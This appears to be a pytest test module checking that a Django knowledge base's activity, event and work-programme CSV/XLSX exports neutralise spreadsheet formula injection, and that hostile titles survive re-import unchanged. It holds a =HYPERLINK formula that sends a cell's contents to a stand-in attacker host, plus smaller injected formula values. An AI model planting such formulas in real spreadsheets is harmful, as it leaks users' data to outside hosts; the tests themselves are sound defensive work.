"""Formula injection (issue 15 item 6): hostile titles in the activity, event and work
programme exports are inert, and the activity CSV/XLSX import them back unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from minamata_kb.activities.exporting import export
from minamata_kb.activities.importing import import_activities
from minamata_kb.core.tests.test_tabular import HOSTILE, formula_cells, formula_like

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?leak="&B2,"Open report")'


@pytest.fixture
def hostile(acts: Any) -> dict[str, tuple[str, str, str]]:
    from minamata_kb.activities.models import Activity
    from minamata_kb.activities.services import save_activity

    for i, text in enumerate(HOSTILE):
        save_activity(
            None,
            {
                "code": f"evil-{i:02d}",
                "title": f"{text}" if text.strip() else f"{text}x",
                "description": text,
                "note": "@SUM(1)" if i % 2 else "\t=1+1",
                "provider_organisation": "bcrc-test",
            },
        )
    acts.event.title = TITLE
    acts.event.save()
    return {a.code: (a.title, a.description, a.note) for a in Activity.objects.all()}


def cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode(), newline="")) for c in row]


def test_activity_csv_is_inert_and_imports_back_unchanged(
    tmp_path: Path, hostile: dict[str, tuple[str, str, str]]
) -> None:
    from minamata_kb.activities.models import Activity

    data = export("csv")
    assert not [c for c in cells(data) if formula_like(c)]
    assert "'" + TITLE in cells(data)
    path = tmp_path / "a.csv"
    path.write_bytes(data)
    report = import_activities(path)
    assert report.created == [] and report.updated == [], report.summary()
    Activity.objects.filter(code__startswith="evil-").delete()
    import_activities(path)
    assert {a.code: (a.title, a.description, a.note) for a in Activity.objects.all()} == hostile


def test_activity_xlsx_has_no_formula_and_imports_back_unchanged(
    tmp_path: Path, hostile: dict[str, tuple[str, str, str]]
) -> None:
    from minamata_kb.activities.models import Activity

    data = export("xlsx")
    assert formula_cells(data) == []
    path = tmp_path / "a.xlsx"
    path.write_bytes(data)
    Activity.objects.filter(code__startswith="evil-").delete()
    import_activities(path)
    assert {a.code: (a.title, a.description, a.note) for a in Activity.objects.all()} == hostile


def test_events_and_work_programme_csv_are_inert(
    hostile: dict[str, tuple[str, str, str]],
) -> None:
    from minamata_kb.activities.selectors import export_events
    from minamata_kb.activities.workprogramme import export_work_programme

    events = export_events("csv")
    assert "'" + TITLE in cells(events)
    assert not [c for c in cells(events) if formula_like(c)]
    programme = export_work_programme("csv", everything=True)
    assert not [c for c in cells(programme) if formula_like(c)]
